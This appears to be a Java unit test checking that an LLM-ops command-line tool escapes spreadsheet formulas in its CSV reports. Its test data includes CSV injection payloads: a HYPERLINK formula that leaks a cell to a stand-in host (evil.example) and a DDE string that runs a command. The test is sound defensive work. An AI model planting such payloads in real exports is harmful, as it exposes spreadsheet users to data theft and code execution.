package dev.llmops.cli;

import static dev.llmops.cli.CliAssert.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Model output, data and metric names that a spreadsheet would run as formulas reach the CSV reports as text:
 * {@code llmops experiment} on a flow that echoes hostile questions, with an evaluator that logs hostile metric
 * names.
 */
class CsvInjectionCommandTest {

    private static final String EVALUATOR = """
            - name: formula
              flow: evalflow
              datasets:
              - name: other
                mappings:
                  response: ${run.outputs.answer}
            """;

    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\tleading tab",
            "\rleading carriage return");

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;

    @Test
    void should_prefix_formula_cells_and_metric_headers_with_a_quote() throws IOException {
        // given: the flow echoes questions it does not know, so each hostile question is also the model's answer
        Path quiz = QuizUseCase.write(dir.resolve("quiz"), EVALUATOR);
        StringBuilder other = new StringBuilder();
        StringBuilder truth = new StringBuilder();
        for (String q : HOSTILE) {
            other.append(JSON.writeValueAsString(Map.of("question", q))).append('\n');
            truth.append("{\"truth\": \"x\"}\n");
        }
        Files.writeString(quiz.resolve("other.jsonl"), other.toString());
        Files.writeString(quiz.resolve("other_truth.jsonl"), truth.toString());
        writeEvaluatorFlow(quiz.resolve("evalflow"));

        // when
        CliResult result = CliRun.in(dir).run("experiment", "-u", "quiz");

        // then
        assertThat(result).succeeded();
        List<String> expected = List.of(
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "'+1+cmd|' /C calc'!A0",
                "'-2+3",
                "'@SUM(A1:A9)",
                "'\tleading tab",
                "'\rleading carriage return");
        List<CSVRecord> rows = read(dir.resolve("reports/other_exact_result.csv"));
        assertThat(rows).extracting(r -> r.get("inputs.question")).containsExactlyElementsOf(expected);
        assertThat(rows).extracting(r -> r.get("inputs.response")).containsExactlyElementsOf(expected);
        // metric names in headers, and numbers (negative ones too) left as numbers
        List<CSVRecord> metrics = read(dir.resolve("reports/formula_metrics.csv"));
        assertThat(metrics).hasSize(1);
        assertThat(metrics.get(0).get("'=1+2")).isEqualTo("1.0");
        assertThat(metrics.get(0).get("'-delta")).isEqualTo("-0.5");
        assertThat(Double.parseDouble(metrics.get(0).get("plain"))).isEqualTo(-0.001);
        assertThat(Files.readString(dir.resolve("reports/quiz_metrics.csv")))
                .contains("'=1+2")
                .doesNotContain(",=1+2");
    }

    private static List<CSVRecord> read(Path file) throws IOException {
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            return CSVFormat.RFC4180
                    .builder()
                    .setHeader()
                    .setSkipHeaderRecord(true)
                    .get()
                    .parse(reader)
                    .getRecords();
        }
    }

    private static void writeEvaluatorFlow(Path flow) throws IOException {
        Files.createDirectories(flow);
        Files.writeString(flow.resolve("flow.dag.yaml"), """
                inputs:
                  response:
                    type: string
                outputs:
                  length:
                    type: int
                    reference: ${length.output}
                nodes:
                - name: length
                  type: python
                  source: {type: code, path: length.py}
                  inputs: {response: "${inputs.response}"}
                - name: aggregate
                  type: python
                  source: {type: code, path: aggregate.py}
                  aggregation: true
                  inputs: {lengths: "${length.output}"}
                """);
        Files.writeString(flow.resolve("length.py"), """
                from promptflow import tool

                @tool
                def length(response: str) -> int:
                    return len(response)
                """);
        Files.writeString(flow.resolve("aggregate.py"), """
                from promptflow import tool, log_metric

                @tool
                def aggregate(lengths: list):
                    log_metric("=1+2", 1)
                    log_metric("-delta", -0.5)
                    log_metric("plain", -0.001)
                    return len(lengths)
                """);
    }
}
